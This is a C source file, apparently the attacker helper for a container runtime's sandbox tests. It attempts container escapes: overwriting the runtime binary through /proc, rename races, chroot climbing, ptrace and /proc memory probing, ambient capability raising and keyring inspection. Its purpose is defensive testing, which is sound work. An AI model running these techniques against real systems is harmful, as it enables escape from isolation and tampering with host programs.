// SPDX-License-Identifier: Apache-2.0
//
// The attacker's program of the tests in this directory; runs in a container, or on the host as
// the one who shares a volume with it.
//
//   attack fds                  every open descriptor, one per line: "N target"
//   attack swap A B             exchanges the names A and B until it is killed
//   attack swaps DIRECTORY N    the same with N pairs in DIRECTORY: a0 and b0, a1 and b1, ...
//   attack overwrite            waits for a process that is not a program of the container, and tries to
//                               get a writable descriptor of its program, while it lives and afterwards
//   attack inherit COMMAND...   executes it with CAP_CHOWN and CAP_KILL inheritable and ambient
//   attack touch PID            tries to trace PID, to read its memory, descriptors, files
//   attack climb                leaves its root by the way of chroot(2), and lists what it finds at the top
//   attack keyring              describes its session keyring
//   attack watch SECONDS        the same with every process that appears; prints what succeeded

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void nap(long microseconds) {
  struct timespec time = {.tv_nsec = microseconds * 1000};
  nanosleep(&time, NULL);
}

static int show_descriptors(void) {
  for (int fd = 0; fd < 4096; fd++) {
    char link[64], target[4096];
    if (fcntl(fd, F_GETFD) < 0)
      continue;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(link, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    printf("%d %s\n", fd, target);
  }
  return 0;
}

static int swap(const char *one, const char *other) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (;;) {
    if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0 && errno != ENOENT)
      return perror("renameat2"), 1;
    nap(10);
  }
}

static int swap_pairs(const char *directory, int pairs) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  if (chdir(directory) < 0)
    return perror(directory), 1;
  for (int i = 0;; i = (i + 1) % pairs) {
    char one[16], other[16];
    snprintf(one, sizeof one, "a%d", i);
    snprintf(other, sizeof other, "b%d", i);
    if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
      return perror("renameat2"), 1;
  }
}

// Says "what: opened", or which error it was.
static int try_open(const char *what, const char *path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0)
    printf("%s: %s\n", what, strerrorname_np(errno));
  else
    printf("%s: opened\n", what);
  return fd;
}

// The pid of a process that has not become a program of this root yet, or 0.
static int find_runtime(void) {
  DIR *proc = opendir("/proc");
  int found = 0;
  for (struct dirent *entry; proc && !found && (entry = readdir(proc));) {
    char path[64], target[64];
    int pid = atoi(entry->d_name);
    if (pid < 1 || pid == getpid())
      continue;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    if (!strncmp(target, "/memfd:", 7) || strstr(target, "python"))
      found = pid;
  }
  if (proc)
    closedir(proc);
  return found;
}

// As the published exploit does: hold a read-only descriptor, and ask for a writable one through
// /proc/self/fd until the program is no longer busy.
static int overwrite(void) {
  char path[64];
  int pid = 0, writable = -1;
  puts("watching");
  fflush(stdout);
  while (!(pid = find_runtime()))
    nap(1000);
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int held = try_open("read", path, O_RDONLY);
  writable = try_open("write", path, O_RDWR);
  fflush(stdout);
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  for (int i = 0; held >= 0 && writable < 0 && i < 2000; i++) {
    writable = open(path, O_RDWR | O_CLOEXEC);
    nap(5000);
  }
  if (writable < 0)
    return puts("never writable"), 0;
  ssize_t written = pwrite(writable, "#!/owned\n", 9, 0);
  printf("pwrite: %s\n", written < 0 ? strerrorname_np(errno) : "written");
  printf("ftruncate: %s\n", ftruncate(writable, 0) < 0 ? strerrorname_np(errno) : "truncated");
  void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writable, 0);
  printf("mmap: %s\n", map == MAP_FAILED ? strerrorname_np(errno) : "mapped");
  return 0;
}

static int can_open(const char *pid, const char *name, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0)
    return 0;
  close(fd);
  return 1;
}

static int can_trace(const char *pid) {
  if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) < 0)
    return 0;
  ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
  return 1;
}

static void touch(const char *pid) {
  if (can_trace(pid))
    printf("%s ptrace\n", pid);
  if (can_open(pid, "mem", O_RDWR))
    printf("%s mem\n", pid);
  if (can_open(pid, "exe", O_RDONLY))
    printf("%s exe\n", pid);
  if (can_open(pid, "root", O_PATH))
    printf("%s root\n", pid);
  if (can_open(pid, "cwd", O_PATH))
    printf("%s cwd\n", pid);
  if (can_open(pid, "environ", O_RDONLY))
    printf("%s environ\n", pid);
  for (int fd = 0; fd < 24; fd++) {
    char name[16];
    snprintf(name, sizeof name, "fd/%d", fd);
    if (can_open(pid, name, O_RDONLY))
      printf("%s %s\n", pid, name);
  }
}

static int watch(int seconds) {
  time_t end = time(NULL) + seconds;
  int seen[4096] = {0};
  puts("watching");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
      int pid = atoi(entry->d_name);
      if (pid < 2 || pid == getpid() || pid >= 4096)
        continue;
      if (!seen[pid]++)
        printf("%d appeared\n", pid);
      touch(entry->d_name);
    }
    if (proc)
      closedir(proc);
    while (waitpid(-1, NULL, WNOHANG) > 0)
      ;
    fflush(stdout);
    nap(500);
  }
  return 0;
}

static int inherit(char **command) {
  struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
  struct __user_cap_data_struct data[2];
  if (syscall(SYS_capget, &header, data) < 0)
    return perror("capget"), 1;
  data[0].inheritable |= 1u << CAP_CHOWN | 1u << CAP_KILL;
  if (syscall(SYS_capset, &header, data) < 0)
    return perror("capset"), 1;
  if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_CHOWN, 0, 0) < 0 ||
      prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_KILL, 0, 0) < 0)
    return perror("prctl"), 1;
  execv(command[0], command);
  return perror(command[0]), 1;
}

static int describe_keyring(void) {
  char words[512] = "";
  if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, words, sizeof words) < 0)
    return perror("keyctl"), 1;
  return puts(words), 0;
}

static int climb(void) {
  int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (outside < 0 || chroot("/tmp") < 0 || fchdir(outside) < 0)
    return perror("chroot"), 1;
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0)
      return perror(".."), 1;
  DIR *top = opendir(".");
  for (struct dirent *entry; top && (entry = readdir(top));)
    puts(entry->d_name);
  return top ? closedir(top) : 1;
}

int main(int argc, char **argv) {
  const char *verb = argc > 1 ? argv[1] : "";
  if (!strcmp(verb, "fds"))
    return show_descriptors();
  if (!strcmp(verb, "swap") && argc == 4)
    return swap(argv[2], argv[3]);
  if (!strcmp(verb, "swaps") && argc == 4)
    return swap_pairs(argv[2], atoi(argv[3]));
  if (!strcmp(verb, "overwrite"))
    return overwrite();
  if (!strcmp(verb, "inherit") && argc > 2)
    return inherit(argv + 2);
  if (!strcmp(verb, "touch") && argc == 3)
    return touch(argv[2]), 0;
  if (!strcmp(verb, "climb"))
    return climb();
  if (!strcmp(verb, "keyring"))
    return describe_keyring();
  if (!strcmp(verb, "watch") && argc == 3)
    return watch(atoi(argv[2]));
  fputs("attack: see the head of attack.c\n", stderr);
  return 2;
}
